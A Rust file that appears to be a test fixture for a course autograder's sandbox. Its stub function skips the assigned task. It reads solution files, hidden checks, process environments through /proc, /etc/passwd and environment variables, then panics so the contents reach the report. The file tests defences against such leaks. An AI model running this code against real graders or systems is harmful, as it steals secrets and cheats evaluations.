//! Attack: read what students must not see while the checks run: the
//! course's solutions and hidden checks (by absolute path, and through the
//! parent's /proc/<ppid>/cwd), the grader's environment (its own, pid 1's,
//! the parent's), and put whatever it finds into the report by panicking
//! with it.
//! Must not: get the secret in the grader's environment or any course file
//! into the report.
use std::time::Duration;

pub const DEFAULT_MAX_DELAY: Duration = Duration::from_secs(10);

pub async fn wait_random(_max_delay: Duration) -> Duration {
    let parent = std::os::unix::process::parent_id();
    let wanted = [
        "@@COURSE@@/solutions/00_wait_random/src/lib.rs".to_owned(),
        "@@COURSE@@/exercises/01_wait_n/checks.yaml".to_owned(),
        format!("/proc/{parent}/cwd/solutions/00_wait_random/src/lib.rs"),
        format!("/proc/{parent}/environ"),
        format!("/proc/{parent}/cmdline"),
        "/proc/1/environ".to_owned(),
        "/proc/self/environ".to_owned(),
        "/etc/passwd".to_owned(),
        "@@CACHE@@/slots/0/Cargo.toml".to_owned(),
    ];
    let mut found = String::new();
    for path in wanted {
        match std::fs::read(&path) {
            Ok(bytes) => found.push_str(&format!(
                "[{path}: {}] ",
                String::from_utf8_lossy(&bytes[..bytes.len().min(4096)])
            )),
            Err(e) => found.push_str(&format!("[{path}: {e}] ")),
        }
    }
    let env: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
    found.push_str(&format!("[env: {}]", env.join(" ")));
    println!("{found}");
    panic!("found: {found}")
}
